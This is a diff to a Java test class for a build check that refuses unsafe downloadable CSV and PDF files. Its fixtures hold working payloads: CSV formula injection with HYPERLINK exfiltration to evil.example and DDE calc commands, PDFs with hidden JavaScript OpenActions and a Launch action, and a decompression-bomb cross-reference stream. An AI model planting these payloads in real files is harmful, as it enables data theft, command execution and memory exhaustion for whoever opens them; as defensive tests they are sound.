@@ -77,12 +77,14 @@ class DownloadsTest {
 
     @Test
     void aCellThatAGivenSpreadsheetRunsAsAFormulaIsRefusedAtItsLine(@TempDir Path tmp) {
-        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv");
+        Fixture f = linking(tmp, "data.csv", "semi.csv", "latin.csv", "broken.csv", "sep.csv", "lenient.csv");
         f.write(DIR + "data.csv", "name,link\nok,1\nleak,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"x\"\")\"\ncalc,-2+3+cmd|' /C calc'!A0\n"
                 + "sum,@SUM(1+1)*cmd|' /C calc'!A0\nspace, =1+1\n");
         f.write(DIR + "semi.csv", "name;value\nx;=1+1\n");
         f.writeBytes(DIR + "latin.csv", "name\ncaf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1));
         f.write(DIR + "broken.csv", "a,b\n\"unclosed,1\n");
+        f.write(DIR + "sep.csv", "sep=|\nname|value\nx|=HYPERLINK(\"http://evil.example/?leak\")\n");
+        f.write(DIR + "lenient.csv", "x;\"a\"b,c\ny;=HYPERLINK(\"http://evil.example/\")\n");
         List<String> m = failing(f);
         has(m, DIR + "data.csv:3: the cell `=HYPERLINK(\"https://evil.example/?\"&A2,\"x\")` starts with `=`: a spreadsheet opening the"
                 + " download runs it as a formula");
@@ -92,6 +94,8 @@ class DownloadsTest {
         has(m, DIR + "semi.csv:2: the cell `=1+1` starts with `=`");
         has(m, DIR + "latin.csv: is not UTF-8 text (save the table as \"CSV UTF-8\"");
         has(m, DIR + "broken.csv: is not a well-formed CSV table");
+        has(m, DIR + "sep.csv:1: the first line `sep=|` chooses the separator for Excel");
+        has(m, DIR + "lenient.csv:2: the cell `=HYPERLINK(\"http://evil.example/\")` starts with `=`");
     }
 
     @Test
@@ -176,6 +180,77 @@ class DownloadsTest {
                 + " read from the file (export it again without its location");
         f.writeBytes(DIR + "harbour.jpg", jpeg);
         assertTrue(f.build().ok(), f.log());
+    }
+
+    /**
+     * Objects laid out by hand (an attacker's re-trial): PDFBox skips an object it cannot parse
+     * (`/Pad 1.2.3.4`, `/Pad ]`), which a viewer still reads, JavaScript and all; a cross-reference
+     * stream of two billion entries in 2 MB claimed 2 GB of the build's memory. Both refused, the
+     * second by the reader's own bounded JVM, and the next file is still read.
+     */
+    @Test
+    void aPdfTheBuildCannotReadWholeIsRefused(@TempDir Path tmp) throws IOException {
+        Fixture f = linking(tmp, "badnum.pdf", "unbalanced.pdf", "bomb.pdf", "after.pdf");
+        for (String pad : List.of("1.2.3.4", "]")) {
+            f.writeBytes(DIR + (pad.equals("]") ? "unbalanced.pdf" : "badnum.pdf"), laidOut(java.util.Map.of(
+                    1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 4, "<< /S /JavaScript /JS (app.alert(1)) /Pad " + pad + " >>")));
+        }
+        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
+        StringBuilder objects = new StringBuilder("%PDF-1.7\n");
+        java.util.Map<Integer, String> base = base();
+        for (int n : new java.util.TreeSet<>(base.keySet())) {
+            objects.append(n).append(" 0 obj\n").append(base.get(n)).append("\nendobj\n");
+        }
+        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
+        try (java.util.zip.DeflaterOutputStream z = new java.util.zip.DeflaterOutputStream(zipped, new java.util.zip.Deflater(9))) {
+            byte[] zeros = new byte[10_000_000];
+            for (int i = 0; i < 200; i++) {
+                z.write(zeros);
+            }
+        }
+        int xref = objects.length();
+        bomb.write(objects.toString().getBytes(StandardCharsets.ISO_8859_1));
+        bomb.write(("4 0 obj\n<< /Type /XRef /Size 2000000000 /W [1 0 0] /Index [0 2000000000] /Root 1 0 R /Filter /FlateDecode /Length "
+                + zipped.size() + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
+        bomb.write(zipped.toByteArray());
+        bomb.write(("\nendstream\nendobj\nstartxref\n" + xref + "\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1));
+        f.writeBytes(DIR + "bomb.pdf", bomb.toByteArray());
+        f.writeBytes(DIR + "after.pdf", laidOut(java.util.Map.of(1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+                4, "<< /S /Launch /F (calc.exe) >>")));
+        long start = System.nanoTime();
+        Build.Result r = f.buildWith("explainers.pdfSeconds", "8"); // 30 s by default
+        assertFalse(r.ok(), f.log());
+        List<String> m = Fixture.messages(r);
+        assertTrue(System.nanoTime() - start < java.util.concurrent.TimeUnit.SECONDS.toNanos(60), "bounded in time");
+        has(m, DIR + "badnum.pdf: the PDF has an object the build cannot read");
+        has(m, DIR + "unbalanced.pdf: the PDF has an object the build cannot read");
+        has(m, DIR + "bomb.pdf: ");
+        has(m, DIR + "after.pdf: the PDF has a Launch action");
+    }
+
+    private static java.util.Map<Integer, String> base() {
+        return new java.util.TreeMap<>(java.util.Map.of(1, "<< /Type /Catalog /Pages 2 0 R >>", 2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"));
+    }
+
+    /** A PDF written object by object, with its cross-reference table: {@code objects} over a one-page document's. */
+    private static byte[] laidOut(java.util.Map<Integer, String> objects) {
+        java.util.Map<Integer, String> all = base();
+        all.putAll(objects);
+        StringBuilder out = new StringBuilder("%PDF-1.7\n");
+        java.util.Map<Integer, Integer> at = new java.util.TreeMap<>();
+        for (var e : all.entrySet()) {
+            at.put(e.getKey(), out.length());
+            out.append(e.getKey()).append(" 0 obj\n").append(e.getValue()).append("\nendobj\n");
+        }
+        int size = java.util.Collections.max(all.keySet()) + 1;
+        int xref = out.length();
+        out.append("xref\n0 ").append(size).append("\n0000000000 65535 f \n");
+        for (int n = 1; n < size; n++) {
+            out.append(at.containsKey(n) ? String.format(java.util.Locale.ROOT, "%010d 00000 n \n", at.get(n)) : "0000000000 65535 f \n");
+        }
+        out.append("trailer\n<< /Size ").append(size).append(" /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
+        return out.toString().getBytes(StandardCharsets.ISO_8859_1);
     }
 
     /** A one-page PDF with a line of text, changed by {@code change}, saved as PDFBox saves by default. */
